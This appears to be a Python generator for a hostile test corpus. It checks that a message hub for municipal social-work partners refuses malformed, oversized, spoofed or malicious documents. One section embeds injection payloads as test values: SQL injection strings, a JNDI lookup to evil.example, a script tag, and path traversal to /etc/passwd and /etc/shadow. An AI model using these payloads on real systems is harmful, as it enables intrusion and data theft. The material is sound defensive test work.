# Writes the hostile corpus (the numbered files and cases.tsv) into the current folder:
#   cd src/test/resources/hostile && rm -f 0* 1* cases.tsv && python3 generate.py
import json, os, copy, gzip, random

OUT = '.'
cases = []   # (file, channels, expect, note)
n = [0]

def name(slug, ext='json'):
    n[0] += 1
    return f"{n[0]:03d}-{slug}.{ext}"

def write_bytes(fname, data):
    with open(os.path.join(OUT, fname), 'wb') as f:
        f.write(data)

def add(slug, data, expect, channels='all', note='', ext='json'):
    f = name(slug, ext)
    if isinstance(data, (dict, list)):
        data = json.dumps(data, ensure_ascii=False).encode('utf-8')
    elif isinstance(data, str):
        data = data.encode('utf-8')
    write_bytes(f, data)
    cases.append((f, channels, expect, note))
    return f

def doc_id(i=None):
    return "hostile-" + str(n[0] + 1)

def feedback():
    return {"schemaVersion": 1, "documentId": doc_id(), "type": "feedback-report", "partner": "riso",
            "municipality": "23098", "createdAt": "2026-11-28T09:00:00+01:00",
            "payload": {"period": {"from": "2026-11-01", "to": "2026-11-28"},
                        "activity": {"name": "Buurtsoep", "category": "welcome"},
                        "participants": {"total": 23, "newcomers": 9},
                        "outcomes": ["Nine newcomer families joined"], "signals": ["Need for childcare"]}}

def minutes():
    return {"schemaVersion": 1, "documentId": doc_id(), "type": "meeting-minutes", "partner": "riso",
            "municipality": "23098", "createdAt": "2026-11-28T09:00:00+01:00",
            "payload": {"meeting": {"date": "2026-11-20", "kind": "steering-group", "title": "Stuurgroep"},
                        "attendees": [{"organisation": "RISO"}], "decisions": ["Go on"], "summary": "Short."}}

def referral():
    return {"schemaVersion": 1, "documentId": doc_id(), "type": "referral", "partner": "riso",
            "municipality": "23098", "createdAt": "2026-11-28T09:00:00+01:00",
            "payload": {"person": {"givenName": "Hostile", "familyName": "Case", "birthYear": 1990, "languages": ["fr"],
                                   "phone": "+32 470 00 00 00"},
                        "consent": {"given": True, "date": "2026-11-20"},
                        "target": {"partner": "de-rand", "activity": {"name": "Babycafe", "category": "family"}},
                        "needs": ["contact"]}}

def status(referral_partner="kanak", referral_id="{{KANAK_REFERRAL}}", st="accepted"):
    return {"schemaVersion": 1, "documentId": doc_id(), "type": "referral-status", "partner": "riso",
            "municipality": "23098", "createdAt": "2026-11-28T09:00:00+01:00",
            "payload": {"referral": {"partner": referral_partner, "documentId": referral_id}, "status": st}}

def setp(d, path, value):
    d = copy.deepcopy(d)
    cur = d
    parts = path.strip('/').split('/')
    for p in parts[:-1]:
        cur = cur[int(p)] if isinstance(cur, list) else cur[p]
    last = parts[-1]
    if isinstance(cur, list):
        cur[int(last)] = value
    else:
        cur[last] = value
    return d

def remove(d, path):
    d = copy.deepcopy(d)
    cur = d
    parts = path.strip('/').split('/')
    for p in parts[:-1]:
        cur = cur[p]
    del cur[parts[-1]]
    return d

# A. invalid and truncated JSON
valid = json.dumps(feedback())
for cut in [1, 10, 40, 80, 120, 200, len(valid) - 1]:
    add("truncated", valid[:cut], "ends too early")
add("single-quotes", valid.replace('"', "'"), "not valid JSON")
add("trailing-comma", valid[:-1] + ',}', "not valid JSON")
add("comment", '// a comment\n' + valid, "not valid JSON")
add("nan", valid.replace('23,', 'NaN,'), "not valid JSON")
add("unquoted-keys", valid.replace('"schemaVersion"', 'schemaVersion'), "not valid JSON")
add("only-brace", "{", "ends too early")
add("json-string", '"a document"', "a document is a JSON object")
add("json-number", "123", "a document is a JSON object")
add("json-null", "null", "a document is a JSON object")
add("json-array", "[" + valid + "]", "a document is a JSON object")
add("two-documents", valid + valid, "more after the end")
add("xml", '<?xml version="1.0"?><document><type>referral</type></document>', "not valid JSON")
add("yaml", 'schemaVersion: 1\ntype: referral\n', "not valid JSON")
add("csv", 'documentId,type\nx,referral\n', "not valid JSON")

# B. wrong types
wrong = [("/schemaVersion", "1", "must be the constant value"), ("/schemaVersion", 2, "must be the constant value"),
         ("/documentId", 123, "integer found, string expected"), ("/type", 5, ""), ("/partner", [], ""),
         ("/municipality", 23098, "integer found, string expected"), ("/createdAt", 12345, ""),
         ("/payload", [], "array found, object expected"), ("/payload", "x", "string found, object expected"),
         ("/payload/participants/total", "23", "string found, integer expected"),
         ("/payload/participants/newcomers", -1, "minimum"), ("/payload/period/from", 20261101, ""),
         ("/payload/activity/category", "dance", "enumeration"), ("/payload/outcomes", "text", "string found, array expected"),
         ("/payload/signals", [1, 2], "integer found, string expected"), ("/payload/participants", None, "null found, object expected"),
         ("/createdAt", "yesterday", "date-time"), ("/payload/period/to", "2026-13-45", "date")]
for path, value, expect in wrong:
    add("wrong-type" + path.replace('/', '-'), setp(feedback(), path, value), expect or "")
add("wrong-type-meeting-kind", setp(minutes(), "/payload/meeting/kind", "party"), "enumeration")
add("wrong-type-attendees", setp(minutes(), "/payload/attendees", {"organisation": "RISO"}), "object found, array expected")
add("wrong-type-summary", setp(minutes(), "/payload/summary", 42), "integer found, string expected")
add("wrong-type-decisions", setp(minutes(), "/payload/decisions", [None]), "null found, string expected")
add("wrong-type-consent", setp(referral(), "/payload/consent/given", "yes"), "string found, boolean expected")
add("wrong-type-birth-year", setp(referral(), "/payload/person/birthYear", "1991"), "string found, integer expected")
add("wrong-type-languages", setp(referral(), "/payload/person/languages", "ar"), "string found, array expected")

# C. giant strings
add("summary-over-schema-limit", setp(minutes(), "/payload/summary", "x" * 20001), "20000")
add("document-id-101", setp(feedback(), "/documentId", "a" * 101), "does not match the regex pattern")
add("outcome-4001", setp(feedback(), "/payload/outcomes", ["y" * 4001]), "4000")
add("long-property-name", setp(feedback(), "/payload/" + "k" * 150, 1), "property name is longer than 100")
giant = feedback(); giant["payload"]["outcomes"] = ["__FILL__"]
add("string-over-parser-limit", json.dumps({"template": json.dumps(giant), "fill": "z", "times": 150000}), "longer than 100000 characters", ext="recipe")
add("document-over-5mb", json.dumps({"template": json.dumps(setp(feedback(), "/payload/signals", ["__FILL__"])), "fill": "w", "times": 6000000}), "at most 5242880 bytes", ext="recipe")

# D. deep nesting
def nest(depth):
    v = 1
    for _ in range(depth):
        v = {"n": v}
    return v
add("nesting-17", setp(feedback(), "/payload/deep", nest(17)), "deeper than 16 levels")
add("nesting-50", setp(feedback(), "/payload/deep", nest(50)), "deeper than 16 levels")
add("nesting-arrays", '{"payload":' + '[' * 40 + ']' * 40 + '}', "deeper than 16 levels")
add("nesting-10000", json.dumps({"template": '{"payload":' + '__FILL__' + '}', "fill": "[", "times": 10000}), "deeper than 16 levels", ext="recipe")
add("nesting-in-outcomes", setp(feedback(), "/payload/outcomes", [[[[[[[[[[[[[[[[["x"]]]]]]]]]]]]]]]]]), "deeper than 16 levels")
add("nesting-unknown-field", setp(feedback(), "/extra", nest(20)), "deeper than 16 levels")

# E. huge arrays
add("attendees-201", setp(minutes(), "/payload/attendees", [{"organisation": "RISO"}] * 201), "200")
add("outcomes-51", setp(feedback(), "/payload/outcomes", ["o"] * 51), "50")
add("needs-21", setp(referral(), "/payload/needs", ["n"] * 21), "20")
add("languages-11", setp(referral(), "/payload/person/languages", ["a" + chr(97 + i) for i in range(11)]), "10")
add("decisions-1000", setp(minutes(), "/payload/decisions", ["d"] * 1000), "50")
add("array-over-token-limit", json.dumps({"template": '{"payload":{"x":[__FILL__0]}}', "fill": "0,", "times": 600000}), "more than 500000 JSON values", ext="recipe")

# F. duplicate keys
base = json.dumps(feedback())
add("duplicate-document-id", base.replace('"documentId": "', '"documentId": "a", "documentId": "', 1), "appears twice")
add("duplicate-partner-spoof", base.replace('"partner": "riso"', '"partner": "riso", "partner": "kanak"', 1), "appears twice")
add("duplicate-payload", base[:-1] + ', "payload": {}}', "appears twice")
add("duplicate-nested", base.replace('"total": 23', '"total": 23, "total": 2', 1), "appears twice")
add("duplicate-type", base.replace('"type": "feedback-report"', '"type": "feedback-report", "type": "referral"', 1), "appears twice")
add("case-variant-key", setp(feedback(), "/Type", "referral"), "additional")

# G. other encodings
text = json.dumps(setp(feedback(), "/payload/outcomes", ["Café-avond met één gezin, 5 €"]), ensure_ascii=False)
add("utf16le-bom", b'\xff\xfe' + text.encode('utf-16-le'), "UTF-16")
add("utf16be-bom", b'\xfe\xff' + text.encode('utf-16-be'), "UTF-16")
add("utf16le-no-bom", text.encode('utf-16-le'), "NUL bytes")
add("utf32le", text.encode('utf-32-le'), "NUL bytes")
add("latin1", text.replace('€', 'EUR').encode('latin-1'), "not valid UTF-8")
add("windows1252", text.encode('cp1252'), "not valid UTF-8")
add("invalid-byte", text.encode('utf-8').replace(b'Caf', b'Caf\xff', 1), "not valid UTF-8")
add("overlong-utf8", text.encode('utf-8').replace(b'/', b'\xc0\xaf', 1) if b'/' in text.encode() else text.encode('utf-8')[:20] + b'\xc0\xaf' + text.encode('utf-8')[20:], "not valid UTF-8")
add("shift-jis", json.dumps(setp(feedback(), "/payload/outcomes", ["日本語のテキスト"]), ensure_ascii=False).encode('shift_jis'), "not valid UTF-8")
add("ebcdic", text.replace('€', 'EUR').replace('é', 'e').replace('è', 'e').encode('cp500'), "not valid UTF-8")

# H. empty and binary
add("empty", b'', "the document is empty")
add("whitespace", b'   \n\t  ', "the document is empty")
add("newlines", b'\n\n\n', "the document is empty")
add("nul-bytes", b'\x00' * 64, "NUL bytes")
add("png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "NUL bytes")
add("zip", b"PK\x03\x04" + bytes(range(200)), "NUL bytes")
add("gzip", gzip.compress(valid.encode()), "NUL bytes")
random.seed(7)
add("random-bytes", bytes(random.getrandbits(8) for _ in range(2048)), "")
add("pdf-as-json", b'%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n', "not valid JSON")
add("java-serialized", b'\xac\xed\x00\x05sr\x00\x10java.lang.String', "NUL bytes")

# I. spoofed envelopes
add("spoof-partner-kanak", setp(feedback(), "/partner", "kanak"), "sent by 'riso'")
add("spoof-partner-agency", setp(feedback(), "/partner", "agency"), "sent by 'riso'")
add("spoof-partner-uppercase", setp(feedback(), "/partner", "RISO"), "does not match the regex pattern")
add("spoof-partner-space", setp(feedback(), "/partner", "riso "), "does not match the regex pattern")
add("spoof-hub-block", setp(feedback(), "/hub", {"trackingId": "00000000-0000-7000-8000-000000000000", "sender": "kanak"}), "additional")
add("spoof-delivery-block", setp(feedback(), "/delivery", {"receiver": "agency"}), "additional")
add("spoof-tracking-id", setp(feedback(), "/trackingId", "00000000-0000-7000-8000-000000000000"), "additional")
add("spoof-dupl-id-field", setp(feedback(), "/_AMQ_DUPL_ID", "x:agency"), "additional")
add("spoof-schema-version-2", setp(feedback(), "/schemaVersion", 2), "constant value")
add("spoof-sender-field", setp(feedback(), "/sender", "kanak"), "additional")
add("type-payload-mismatch", setp(minutes(), "/type", "feedback-report"), "")
add("spoof-validated-user-field", setp(feedback(), "/_AMQ_VALIDATED_USER", "kanak"), "additional")

# J. another partner's ids
add("status-not-a-party", status(), "that concerns partner")
add("status-unknown-referral", status("kanak", "kanak-never-sent"), "knows no referral")
add("status-own-unknown-referral", status("riso", "riso-never-sent"), "knows no referral")
add("referral-unknown-target", setp(referral(), "/payload/target/partner", "kanak-2"), "not in the partner registry")
add("referral-target-agency", setp(referral(), "/payload/target/partner", "agency"), "cannot be the target")
add("referral-no-consent", setp(referral(), "/payload/consent/given", False), "consent")
add("municipality-kraainem", setp(feedback(), "/municipality", "23099"), "Kraainem (23099) is not part of the cooperation")
add("municipality-unknown", setp(feedback(), "/municipality", "99999"), "not part of the cooperation")

# K. unknown types
for t, expect in [("recipe", "enumeration"), ("REFERRAL", "enumeration"), ("referral ", "enumeration"), ("", "enumeration"),
                  (None, ""), ("feedback_report", "enumeration")]:
    add("unknown-type", setp(feedback(), "/type", t), expect)

# L. injection strings in constrained fields
payloads = ["1'; DROP TABLE document;--", "${jndi:ldap://evil.example/x}", "<script>alert(1)</script>", "../../../../etc/passwd",
            "\r\nX-Injected: yes", "${exchange.context}", "{{hub.data-dir}}", "' OR '1'='1"]
fields = [(feedback, "/documentId"), (feedback, "/partner"), (feedback, "/municipality"), (feedback, "/createdAt"),
          (feedback, "/type"), (feedback, "/payload/period/from"), (feedback, "/payload/activity/category"),
          (minutes, "/payload/meeting/kind"), (minutes, "/payload/meeting/date"),
          (status, "/payload/referral/partner"), (status, "/payload/status"), (status, "/payload/reasonCode"),
          (referral, "/payload/consent/date"), (referral, "/payload/target/partner"), (referral, "/payload/person/phone"),
          (referral, "/payload/person/email"), (referral, "/payload/person/languages/0"), (referral, "/payload/leisurePassNumber")]
i = 0
for make, path in fields:
    for p in (payloads[i % len(payloads)], payloads[(i + 3) % len(payloads)]):
        add("injection" + path.replace('/', '-'), setp(make(), path, p), "")
    i += 1
for p in ["../../../etc/passwd.pdf", "..\\..\\windows\\system32.pdf", "/etc/shadow.pdf", "a/../../b.pdf"]:
    add("attachment-path-traversal", setp(minutes(), "/payload/attachment", {"fileName": p, "sha256": "0" * 64}), "does not match the regex pattern")
add("attachment-sha-injection", setp(minutes(), "/payload/attachment", {"fileName": "a.pdf", "sha256": "'; DROP TABLE attachment_access;--"}), "does not match the regex pattern")

# M. a PDF that is not a PDF (sent with an attachment: HTTP multipart part, or a file beside the JSON)
def with_attachment(slug, content, expect, sha=None):
    import hashlib
    pdf_name = name(slug, 'pdf')
    write_bytes(pdf_name, content)
    d = setp(minutes(), "/payload/attachment", {"fileName": pdf_name, "sha256": sha or hashlib.sha256(content).hexdigest()})
    f = name(slug)
    write_bytes(f, json.dumps(d).encode())
    cases.append((f, "http,file", expect, "attachment=" + pdf_name))
with_attachment("html-named-pdf", b'<html><body>not a pdf</body></html>', "is not a PDF")
with_attachment("zip-named-pdf", b'PK\x03\x04' + bytes(100), "is not a PDF")
with_attachment("pdf-without-eof", b'%PDF-1.4\n1 0 obj << >> endobj\n', "is not a PDF")
with_attachment("empty-pdf", b'', "is not a PDF")
with_attachment("pdf-wrong-hash", b'%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n', "not the one the document states", sha="a" * 64)
with_attachment("exe-named-pdf", b'MZ\x90\x00' + bytes(64), "is not a PDF")

# N. file names that try to leave the folder or confuse the hub (file channel; content is refused too)
for slug, fname in [("dot-dot", "..json"), ("dots-space", ".. .json"), ("encoded-traversal", "%2e%2e%2fpasswd.json"),
                    ("spaces-unicode", "verslag met ünïcödé en spaties.json"), ("long-name", "n" * 200 + ".json"),
                    ("backslash", "..\\..\\evil.json")]:
    n[0] += 1
    f = f"{n[0]:03d}-{slug}.json"
    write_bytes(f, b'{"broken": ')
    cases.append((f, "file", "ends too early", "drop-as=" + fname))

with open(os.path.join(OUT, 'cases.tsv'), 'w') as m:
    m.write("# The hostile corpus: file<TAB>channels (all, or a comma list of http,file,jms)<TAB>a phrase the refusal must contain (may be empty)<TAB>note\n")
    m.write("# Written by generate.py beside it: add a case there and run it again. {{KANAK_REFERRAL}} is replaced by a referral kanak sent to de-rand.\n")
    for c in cases:
        m.write("\t".join(c) + "\n")
print(len(cases), "cases")
